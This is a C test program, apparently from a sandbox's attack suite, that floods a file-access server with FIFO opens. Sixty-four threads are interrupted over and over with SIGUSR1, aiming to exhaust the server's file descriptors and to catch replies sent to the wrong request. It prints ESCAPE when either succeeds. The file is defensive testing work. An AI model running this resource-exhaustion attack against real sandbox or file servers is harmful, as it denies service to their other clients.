/* FIFOs the server opens on a thread that waits for the other end
 * (outside the grants resolved in the process: here a FIFO of the rw grant
 * reached through an absolute symlink, which the process's own resolution
 * leaves to the server). The program's wait ends with EINTR on a signal
 * and its connection is dropped; the server's thread stays, blocked in
 * open() until a reader shows up, holding its fds.
 *   1. 64 threads open the FIFO for writing, each interrupted by SIGUSR1
 *      (no SA_RESTART) as soon as it waits, over and over: do the server's
 *      waiting threads fill its fd table so that a fresh process's
 *      creation through the server fails (EMFILE)?
 *   2. A reader then releases every waiting writer at once while threads
 *      keep being interrupted and at once ask the server to open a regular
 *      file: does a late reply (a FIFO's fd) land on a connection's next
 *      request?
 * A fresh process that cannot create a file in the rw grant after the
 * flood (while every one of its fds' worth is the attack's own leftovers)
 * prints ESCAPE; so does a reply of the wrong kind. */
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#define W 64
static char fifo[512], link_[512], file[512], filelink[512], probe_path[512];
static atomic_long interrupted, opened, other, mixed;
static atomic_int stop, killstop, check_replies;
static atomic_int tids[W];
static long target;
static void on_usr1(int s) { (void)s; }

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void *worker(void *a) {
    long i = (long)a;
    tids[i] = gettid();
    while (!stop) {
        int fd = open(link_, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            struct stat st;
            if (fstat(fd, &st) == 0 && !S_ISFIFO(st.st_mode)) mixed++;
            close(fd);
            opened++;
        } else if (errno == EINTR) {
            interrupted++;
        } else {
            other++;
            usleep(1000);
        }
        if (check_replies) {
            /* The next request on a new connection: the regular file. */
            int f = open(filelink, O_RDONLY | O_CLOEXEC);
            struct stat st;
            if (f >= 0) {
                if (fstat(f, &st) == 0 && !S_ISREG(st.st_mode)) mixed++;
                close(f);
            }
        }
    }
    return 0;
}

static void *killer(void *a) {
    (void)a;
    while (!killstop) {
        for (int i = 0; i < W; i++)
            if (tids[i]) syscall(SYS_tgkill, getpid(), tids[i], SIGUSR1);
        usleep(3000);
    }
    return 0;
}

/* A fresh process (connections of its own) creates a file through the
 * server. Returns 0 when it could. */
static int probe(const char *label) {
    fflush(stdout);
    pid_t p = fork();
    if (p == 0) {
        int fd = open(probe_path, O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) {
            printf("%s: a fresh process's creation in the rw grant: %s\n", label, strerror(errno));
            fflush(stdout);
            _exit(1);
        }
        close(fd);
        unlink(probe_path);
        /* A FIFO's open through the server with its other end there. */
        int rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        int wr = open(link_, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
        int e = errno;
        if (rd >= 0) close(rd);
        if (wr < 0) {
            printf("%s: a fresh process's FIFO open (a reader there): %s\n", label, strerror(e));
            fflush(stdout);
        } else {
            close(wr);
        }
        _exit(0);
    }
    if (p < 0) {
        printf("%s: fork: %s\n", label, strerror(errno));
        return 1;
    }
    int st;
    waitpid(p, &st, 0);
    int ok = WIFEXITED(st) && WEXITSTATUS(st) == 0;
    printf("%s: a fresh process's creation through the server: %s\n", label, ok ? "works" : "FAILS");
    fflush(stdout);
    return !ok;
}

int main(int argc, char **argv) {
    ARGS
    target = argc > 4 ? atol(argv[4]) : 30000;
    snprintf(fifo, sizeof fifo, "%s/fifo", rw);
    snprintf(link_, sizeof link_, "%s/fifo-link", rw);
    snprintf(file, sizeof file, "%s/plain", rw);
    snprintf(filelink, sizeof filelink, "%s/plain-link", rw);
    snprintf(probe_path, sizeof probe_path, "%s/probe", rw);
    unlink(fifo);
    unlink(link_);
    unlink(filelink);
    if (mkfifo(fifo, 0600) < 0 || symlink(fifo, link_) < 0 || symlink(file, filelink) < 0) {
        printf("setup: %s\n", strerror(errno));
        return 1;
    }
    int pf = open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (pf >= 0) close(pf);
    struct sigaction sa = { .sa_handler = on_usr1 };
    sigaction(SIGUSR1, &sa, 0);
    if (probe("before the flood")) return 0;

    pthread_t th[W], k;
    for (long i = 0; i < W; i++) pthread_create(&th[i], 0, worker, (void *)i);
    pthread_create(&k, 0, killer, 0);
    double t0 = now(), last_t = t0;
    long last = 0;
    while (!stop) {
        usleep(200000);
        long n = interrupted;
        if (n != last) last_t = now();
        /* Done: the target reached, nothing more for 2 s (the server's
         * answers are errors), or 15 s. */
        if (n >= target || now() - last_t > 2 || now() - t0 > 15) break;
        last = n;
    }
    int broken = probe("during the flood");
    stop = 1;
    for (int i = 0; i < W; i++) pthread_join(th[i], 0);
    /* The slots the 64 threads' own connections held: filled by one. */
    stop = 0;
    last = interrupted;
    last_t = now();
    pthread_create(&th[0], 0, worker, 0);
    while (!stop) {
        usleep(200000);
        long n = interrupted;
        if (n != last) last_t = now();
        if (now() - last_t > 2 || now() - t0 > 20 || interrupted >= target) stop = 1;
        last = n;
    }
    pthread_join(th[0], 0);
    printf("flood: %ld opens interrupted in %.1fs (%ld other errors, %ld opened)\n", (long)interrupted, now() - t0,
           (long)other, (long)opened);
    broken |= probe("after the flood");
    if (broken) printf("ESCAPE: FIFO opens the program abandoned (EINTR) left server threads holding fds: the server's fd table is full and its other clients' requests fail\n");

    if (argc > 5) return 0; /* exit with the server's threads waiting */
    /* Release every waiting writer (a reader shows up) while threads go on
     * being interrupted and asking for a regular file right after. */
    stop = 0;
    check_replies = 1;
    interrupted = opened = other = 0;
    for (long i = 0; i < W; i++) pthread_create(&th[i], 0, worker, (void *)i);
    usleep(200000);
    for (int r = 0; r < 20; r++) {
        int rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        usleep(50000);
        if (rd >= 0) close(rd);
    }
    stop = 1;
    for (int i = 0; i < W; i++) pthread_join(th[i], 0);
    killstop = 1;
    pthread_join(k, 0);
    printf("released: %ld interrupted, %ld opened, %ld replies of the wrong kind%s\n", (long)interrupted, (long)opened,
           (long)mixed, mixed ? " ESCAPE: a late reply answered another request" : "");
    probe("after the release");
    unlink(link_);
    unlink(filelink);
    unlink(fifo);
    unlink(file);
    return 0;
}
